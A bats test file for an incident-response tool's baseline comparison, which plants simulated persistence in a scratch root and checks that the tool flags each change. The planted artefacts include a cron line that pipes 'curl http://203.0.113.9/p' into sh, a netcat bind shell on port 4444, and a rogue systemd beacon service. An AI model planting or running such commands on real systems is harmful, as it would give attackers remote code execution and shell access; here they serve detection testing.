#!/usr/bin/env bats
#
# irkit-analyze baseline: a host's known-good collection; what is new or
# changed since it in a later collection is a finding.
#
# Oracles: the changes planted between the collections; sqlite3 for the
# findings, their links and events.
load helpers

setup() {
	setup_scratch
	cd "$SCRATCH"
}

teardown() {
	teardown_scratch
}

make_root() {
	r=$SCRATCH/root
	mkdir -p "$r/etc/systemd/system/multi-user.target.wants" \
	    "$r/usr/local/bin" "$r/etc/ssl/private"
	printf '#!/bin/sh\nexec sleep 1000\n' > "$r/usr/local/bin/webd"
	chmod 755 "$r/usr/local/bin/webd"
	printf '[Service]\nExecStart=/usr/local/bin/webd\n[Install]\nWantedBy=multi-user.target\n' \
	    > "$r/etc/systemd/system/web.service"
	ln -s /etc/systemd/system/web.service \
	    "$r/etc/systemd/system/multi-user.target.wants/web.service"
	printf 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n47 6 * * 7 root run-parts /etc/cron.weekly\n' \
	    > "$r/etc/crontab"
	echo "$r"
}

collect() {
	"$COLLECT" -q -o "$1" --root "$2" --skip processes,kernel_modules \
	    --cert-path /etc/ssl || true
}

plant() {
	printf '[Service]\nExecStart=/tmp/.x/beacon\n[Install]\nWantedBy=multi-user.target\n' \
	    > "$1/etc/systemd/system/evil.service"
	ln -s /etc/systemd/system/evil.service \
	    "$1/etc/systemd/system/multi-user.target.wants/evil.service"
	printf 'SHELL=/bin/sh\n*/5 * * * * root curl -s http://203.0.113.9/p | sh\n17 * * * * root run-parts /etc/cron.hourly\n' \
	    > "$1/etc/crontab"
	printf '#!/bin/sh\nexec nc -l -p 4444 -e /bin/sh\n' > "$1/usr/local/bin/webd"
	openssl genpkey -algorithm ed25519 -out "$1/etc/ssl/private/new.key" 2>/dev/null
}

@test "baseline: a later collection gets one finding per thing new or changed since it, none for removals" {
	root=$(make_root)
	collect a.tar.zst "$root"
	"$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst
	run "$ANALYZE" baseline --db c.db 1
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"evidence 1 (a.tar.zst) is the baseline of its host; 0 baseline findings in 0 later"* ]]
	sleep 1
	plant "$root"
	collect b.tar.zst "$root"
	"$ANALYZE" ingest -q --no-default-rules --db c.db b.tar.zst
	sqlite3 c.db "SELECT score, title FROM findings WHERE category = 'baseline' ORDER BY title" | tee f.txt
	[ "$(wc -l < f.txt)" -eq 4 ]
	grep -q '^60|new service since the baseline: systemd  system  evil.service$' f.txt
	grep -q '^60|new task since the baseline: cron  /etc/crontab  curl -s http://203.0.113.9/p | sh$' f.txt
	grep -q '^70|changed file since the baseline: /usr/local/bin/webd$' f.txt
	grep -q '^50|new private_key since the baseline: /etc/ssl/private/new.key' f.txt
	# the removed cron line is no finding
	! grep -q 'cron.weekly' f.txt || false
	# each on evidence 2, linked to its row, on the timeline
	[ "$(sqlite3 c.db "SELECT count(DISTINCT evidence_id) || evidence_id FROM findings WHERE category = 'baseline'")" = 12 ]
	[ "$(sqlite3 c.db "SELECT count(*) FROM finding_links l JOIN findings f ON f.id = l.finding_id WHERE f.category = 'baseline'")" -eq 4 ]
	sqlite3 c.db "SELECT s.name FROM finding_links l JOIN findings f ON f.id = l.finding_id JOIN services s ON s.id = l.record_id WHERE l.record_table = 'services' AND f.category = 'baseline'" | grep -qx evil.service
	[ "$(sqlite3 c.db "SELECT count(*) FROM events e JOIN findings f ON e.record_table = 'findings' AND e.record_id = f.id WHERE f.category = 'baseline'")" -eq 4 ]
	# the reason says what changed, before and after
	sqlite3 c.db "SELECT reasons FROM findings WHERE title LIKE 'changed file%'" | grep -q 'file changed since the baseline (evidence 1, collected .*): .*sha256: \\"'
	run "$ANALYZE" baseline --db c.db
	[[ "$output" == *$'\t1\ta.tar.zst\t'* ]]
}

@test "baseline: marked after the later collections were loaded, they get their findings; a new baseline replaces them" {
	root=$(make_root)
	collect a.tar.zst "$root"
	sleep 1
	plant "$root"
	collect b.tar.zst "$root"
	"$ANALYZE" ingest -q --no-default-rules --db c.db a.tar.zst b.tar.zst
	[ "$(sqlite3 c.db "SELECT count(*) FROM findings WHERE category = 'baseline'")" -eq 0 ]
	run "$ANALYZE" baseline --db c.db a.tar.zst
	[ "$status" -eq 0 ]
	[[ "$output" == *"4 baseline findings in 1 later collections"* ]]
	[ "$(sqlite3 c.db "SELECT count(*) FROM findings WHERE category = 'baseline' AND evidence_id = 2")" -eq 4 ]
	# marking it again changes nothing
	"$ANALYZE" baseline --db c.db 1
	[ "$(sqlite3 c.db "SELECT count(*) FROM findings WHERE category = 'baseline'")" -eq 4 ]
	# the later one as baseline: the earlier has nothing new since it
	run "$ANALYZE" baseline --db c.db 2
	[[ "$output" == *"0 baseline findings in 0 later"* ]]
	[ "$(sqlite3 c.db "SELECT count(*) FROM findings WHERE category = 'baseline'")" -eq 0 ]
	[ "$(sqlite3 c.db "SELECT count(*) FROM baselines")" -eq 1 ]
	run "$ANALYZE" baseline --db c.db 9
	[ "$status" -eq 2 ]
	[[ "$output" == *"no evidence '9' in the case"* ]]
	run "$ANALYZE" baseline --db c.db 1 2
	[ "$status" -eq 2 ]
}
